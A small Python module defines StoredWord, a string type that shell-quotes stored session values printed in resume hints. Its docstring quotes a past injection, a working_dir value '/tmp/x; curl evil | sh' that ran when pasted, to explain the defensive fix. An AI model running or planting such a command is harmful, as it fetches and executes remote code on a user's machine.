"""The stored values a refusal to resume names in its hint (``ResumeAuthority``'s
``workspace_hint``, ``system_prompt_hint``): data, which whoever wrote the session directory
chose, put into what may be a command to paste.

A hint formats them as ``StoredWord``: as they are (``{path}``), as Python (``{path!r}``, for
a library's ``overrides=``), or as one shell word (``{path:sh}``, for the CLI's: a stored
``working_dir: "/tmp/x; curl evil | sh"`` was printed as ``pass --working-dir /tmp/x; curl
evil | sh``, and pasted, ran).
"""

from __future__ import annotations

import shlex


class StoredWord(str):
    """A stored value in a hint; the format spec ``sh`` quotes it as one shell word."""

    __slots__ = ()

    def __format__(self, spec: str) -> str:
        """``sh``: ``shlex.quote``; any other spec: as a ``str``."""
        if spec == "sh":
            return shlex.quote(str(self))
        return format(str(self), spec)
